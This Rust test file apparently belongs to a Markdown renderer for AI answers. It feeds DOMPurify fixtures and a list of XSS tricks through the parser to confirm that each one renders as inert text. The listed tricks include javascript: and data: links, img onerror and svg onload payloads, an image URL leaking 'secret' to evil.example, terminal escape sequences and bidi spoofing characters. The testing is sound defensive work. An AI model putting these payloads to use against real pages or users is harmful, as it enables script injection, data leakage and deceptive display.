//! Hostile answers. Whatever a model writes becomes text and a few kinds of nodes, and never opens
//! an address by itself.
//!
//! The fixtures belong to the project `DOMPurify`. If their folder (`GLOSS_SUITES`, else
//! `../shared/suites`) is missing, the test prints a message and passes.

#![allow(clippy::expect_used, clippy::indexing_slicing, clippy::unwrap_used)]

use gloss::markdown::{Block, Growing, Inline, parse};
use std::path::{Path, PathBuf};

fn fixtures() -> PathBuf {
    let suites = std::env::var_os("GLOSS_SUITES").map_or_else(
        || Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/suites"),
        PathBuf::from,
    );
    suites.join("dompurify/test/fixtures/expect.mjs")
}

/// The payloads in a fixture file: the JSON strings after `"payload":`.
fn payloads(source: &str) -> Vec<String> {
    let mut found = Vec::new();
    for after in source.split("\"payload\":").skip(1) {
        let mut values = serde_json::Deserializer::from_str(after).into_iter::<String>();
        if let Some(Ok(payload)) = values.next() {
            found.push(payload);
        }
    }
    found
}

/// Several answers that contain this payload in different Markdown constructs.
fn dressed(payload: &str) -> [String; 8] {
    let line = payload.replace(['\n', '\r'], " ");
    [
        payload.to_owned(),
        format!("- {line}\n- **{line}**"),
        format!("[{line}]({line})"),
        format!("![{line}]({line} \"{line}\")"),
        format!("<{line}>"),
        format!("[x]: {line}\n\n[x] ![x]"),
        format!("| {line} |\n|---|\n| {line} |"),
        format!("> {line}\n\n```{line}\n{line}\n```\n`{line}`"),
    ]
}

/// The content of an answer. It is checked for content that no answer may have.
#[derive(Default)]
struct Survey {
    words: String,
    nodes: usize,
    depth: usize,
}

impl Survey {
    fn of(all: &[Block]) -> Self {
        let mut survey = Self::default();
        survey.blocks(all, 1);
        let deceptive = survey.words.chars().find(|c| {
            c.is_control() && !matches!(c, '\n' | '\t' | '\r')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
        });
        assert_eq!(deceptive, None, "{:?}", survey.words);
        survey
    }

    fn blocks(&mut self, all: &[Block], depth: usize) {
        self.depth = self.depth.max(depth);
        for block in all {
            self.nodes += 1;
            match block {
                Block::Paragraph { inlines } => self.inlines(inlines, depth),
                Block::Heading { level, inlines } => {
                    assert!((1..=6).contains(level));
                    self.inlines(inlines, depth);
                }
                Block::List { items, .. } => items.iter().for_each(|i| self.blocks(i, depth + 1)),
                Block::Quote { blocks } => self.blocks(blocks, depth + 1),
                Block::Code { language, text } => {
                    self.words.push_str(language);
                    self.words.push_str(text);
                }
                Block::Table { rows } => {
                    for cell in rows.iter().flatten() {
                        self.inlines(cell, depth);
                    }
                }
                Block::Rule => {}
            }
        }
    }

    fn inlines(&mut self, all: &[Inline], depth: usize) {
        self.depth = self.depth.max(depth);
        for inline in all {
            self.nodes += 1;
            match inline {
                Inline::Text { text } | Inline::Code { text } => self.words.push_str(text),
                Inline::Strong { inlines } | Inline::Emphasis { inlines } => {
                    self.inlines(inlines, depth + 1);
                }
                Inline::Link { url, inlines, .. } => {
                    let scheme = url.split(':').next().unwrap().to_lowercase();
                    assert!(
                        ["http", "https", "mailto"].contains(&scheme.as_str()),
                        "{url}"
                    );
                    self.words.push_str(url);
                    self.inlines(inlines, depth + 1);
                }
                Inline::Cite { passage } => {
                    assert!(
                        passage
                            .chars()
                            .all(|c| c == 'p' || c == '.' || c.is_ascii_digit())
                    );
                }
                Inline::Break => {}
            }
        }
    }
}

/// Checks the answer again while it is streamed in chunks of `size`.
fn streamed(text: &str, size: usize) {
    let mut growing = Growing::default();
    let mut shown = Vec::new();
    let characters: Vec<char> = text.chars().collect();
    for piece in characters.chunks(size) {
        let piece: String = piece.iter().collect();
        if let Some(growth) = growing.push(&piece) {
            shown.truncate(growth.frozen);
            shown.extend_from_slice(&growth.tail);
            Survey::of(&growth.tail);
        }
    }
    let growth = growing.finish();
    shown.truncate(growth.frozen);
    shown.extend(growth.tail);
    Survey::of(&shown);
}

#[test]
fn the_fixtures_of_dompurify_become_words() {
    let path = fixtures();
    let Ok(source) = std::fs::read_to_string(&path) else {
        println!("skipped: no DOMPurify fixtures at {}", path.display());
        return;
    };
    let payloads = payloads(&source);
    assert!(
        payloads.len() > 100,
        "only {} payloads were found",
        payloads.len()
    );
    for payload in &payloads {
        for text in dressed(payload) {
            Survey::of(&parse(&text));
        }
        streamed(&dressed(payload)[7], 3);
    }
    println!("{} payloads, 8 ways each", payloads.len());
}

/// Attempts to hide a scheme, a request or a character from the user.
const TRICKS: [&str; 24] = [
    "[a](javascript:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;&#x61;vascript&colon;alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](\u{1}javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:https://a.example/x)",
    "[a](chrome-extension://abc/x) [b](filesystem:https://a.example/x)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![a](https://evil.example/?q=secret)",
    "[![a](https://evil.example/a.png)](javascript:alert(1))",
    "[a]: javascript:alert(1)\n\n[a]",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "a\u{1b}]8;;https://evil.example\u{7}b\u{1b}]8;;\u{7}",
    "\u{1b}[2J\u{1b}[31mred\u{9b}0m",
    "&#x202e;fdp.exe &#27;[31m &#x200b; &#xfeff; &#0;",
    "`\u{202e}code` ```\u{202e}lang\n\u{202e}x\n```",
    "[\u{202e}moc.knab](https://evil.example/\u{202e})",
    "[a](https://evil.example/&#x202e;&#10;x)",
    "a\0b \u{e0041}\u{e0042} \u{2066}c\u{2069}",
];

#[test]
fn tricks_of_schemes_and_characters_come_to_nothing() {
    for trick in TRICKS {
        for text in dressed(trick).iter().chain([&trick.to_owned()]) {
            Survey::of(&parse(text));
            for size in [1, 4] {
                streamed(text, size);
            }
        }
    }
}

#[test]
fn words_that_run_from_right_to_left_stay_as_they_are() {
    for words in [
        "שלום עולם",
        "مرحبا بالعالم",
        "می\u{200c}خواهم",
        "שלום\u{200f}!",
        "👩\u{200d}👧",
    ] {
        assert_eq!(Survey::of(&parse(words)).words, words);
    }
}

/// The test uses a small stack, as the worker has. It counts nodes to measure the work.
#[test]
fn deep_nesting_neither_overflows_nor_multiplies() {
    let small = std::thread::Builder::new().stack_size(512 * 1024);
    let run = small.spawn(|| {
        for piece in [
            ">", "> ", "[", "![", "](", "*", "_", "*a", "**a ", "- ", "1. ", "`", "<", "<a ",
            "[[p1", "|", "[a](", "&", "\\", "*_", "***a_", "> - ", "\n> - ", "#", "~~~\n", "<!--",
            "[a]: ",
        ] {
            let nodes = [5_000, 10_000].map(|count| {
                let text = piece.repeat(count);
                let blocks = parse(&text);
                let survey = Survey::of(&blocks);
                assert!(survey.depth < 64, "{piece:?}: {}", survey.depth);
                // Serialisation, cloning and comparison are recursive too, so check them as well.
                let json = serde_json::to_string(&blocks).unwrap();
                let again: Vec<Block> = serde_json::from_str(&json).unwrap();
                assert_eq!(again, blocks);
                assert!(survey.nodes <= 2 * text.len() + 2, "{piece:?}");
                survey.nodes
            });
            assert!(nodes[1] <= nodes[0] * 2 + 64, "{piece:?} {nodes:?}");
            streamed(&piece.repeat(3_000), 4);
        }
    });
    run.unwrap().join().unwrap();
}
